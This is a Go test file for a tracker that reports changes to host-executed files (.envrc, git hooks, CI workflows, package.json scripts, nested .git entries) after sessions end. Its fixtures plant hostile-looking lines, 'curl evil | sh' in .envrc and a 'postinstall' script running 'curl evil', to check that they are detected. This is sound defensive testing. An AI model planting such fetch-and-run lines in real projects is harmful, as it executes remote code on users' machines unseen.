package hostexec

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func write(t *testing.T, path, s string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(path), 0o755)
	if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

func project(t *testing.T) (string, Tracker) {
	t.Helper()
	base := t.TempDir()
	p := filepath.Join(base, "project")
	if out, err := exec.Command("git", "init", "-q", p).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	write(t, p+"/package.json", `{"name":"x","scripts":{"test":"go test"},"version":"1"}`)
	write(t, p+"/.envrc", "export A=1\n")
	write(t, p+"/Makefile", "all:\n")
	write(t, p+"/src/main.go", "package main\n")
	return p, Tracker{Dir: filepath.Join(base, "state"), Project: p}
}

func paths(r *Report) string {
	var out []string
	for _, c := range r.Changes {
		out = append(out, c.Path)
	}
	return strings.Join(out, ",")
}

func TestReportAfterTheLastSession(t *testing.T) {
	p, tr := project(t)
	time.Sleep(20 * time.Millisecond)
	if err := tr.Begin("s1", os.Getpid(), time.Now()); err != nil {
		t.Fatal(err)
	}
	// A second session of the same project, from a launch that is alive.
	if err := tr.Begin("s2", os.Getpid(), time.Now()); err != nil {
		t.Fatal(err)
	}
	time.Sleep(20 * time.Millisecond)
	// What a session does: ordinary work, and planted host-executed files.
	write(t, p+"/src/main.go", "package main // edited\n")
	write(t, p+"/package.json", `{"name":"x","scripts":{"test":"go test"},"version":"2"}`) // not the scripts
	write(t, p+"/.envrc", "curl evil | sh\n")
	exec.Command("git", "init", "-q", p+"/vendor/lib").Run()
	write(t, p+"/.git/hooks/pre-commit", "#!/bin/sh\n")
	write(t, p+"/.github/workflows/ci.yml", "on: push\n")

	if r, err := tr.End("s1", time.Now()); err != nil || r != nil {
		t.Fatalf("another session runs: no report yet, got %+v %v", r, err)
	}
	r, err := tr.End("s2", time.Now())
	if err != nil || r == nil {
		t.Fatalf("the last session ends: report expected, got %v", err)
	}
	got := paths(r)
	for _, want := range []string{".envrc", ".git/hooks/pre-commit", ".github/workflows/ci.yml", "vendor/lib/.git/config", "vendor/lib/.git/hooks"} {
		if !strings.Contains(got, want) {
			t.Errorf("report %s lacks %s", got, want)
		}
	}
	for _, not := range []string{"src/main.go", "package.json", "Makefile"} {
		if strings.Contains(got, not) {
			t.Errorf("report %s names %s, which runs nothing new", got, not)
		}
	}
	// The next session starts a new baseline: nothing to report.
	tr.Begin("s3", os.Getpid(), time.Now())
	time.Sleep(20 * time.Millisecond)
	if r, _ := tr.End("s3", time.Now()); r == nil || len(r.Changes) != 0 {
		t.Errorf("a quiet session reports %+v", r)
	}
}

func TestPackageScriptsAndGitFile(t *testing.T) {
	p, tr := project(t)
	tr.Begin("s", os.Getpid(), time.Now())
	time.Sleep(20 * time.Millisecond)
	write(t, p+"/package.json", `{"name":"x","scripts":{"test":"go test","postinstall":"curl evil"}}`)
	write(t, p+"/sub/.git", "gitdir: ../elsewhere\n")
	os.Symlink("/tmp", p+"/other/.git")
	os.MkdirAll(p+"/other", 0o755)
	os.Symlink("/tmp", p+"/other/.git")
	r, _ := tr.End("s", time.Now())
	got := paths(r)
	for _, want := range []string{"package.json", "sub/.git", "other/.git"} {
		if !strings.Contains(got, want) {
			t.Errorf("report %s lacks %s", got, want)
		}
	}
}

// A registered launch that died does not keep the report back.
func TestStaleSessionIsIgnored(t *testing.T) {
	p, tr := project(t)
	cmd := exec.Command("true")
	cmd.Run()
	tr.Begin("dead", cmd.Process.Pid, time.Now())
	tr.Begin("s", os.Getpid(), time.Now())
	time.Sleep(20 * time.Millisecond)
	write(t, p+"/.envrc", "x\n")
	r, err := tr.End("s", time.Now())
	if err != nil || r == nil || paths(r) != ".envrc" {
		t.Errorf("report %+v %v", r, err)
	}
}
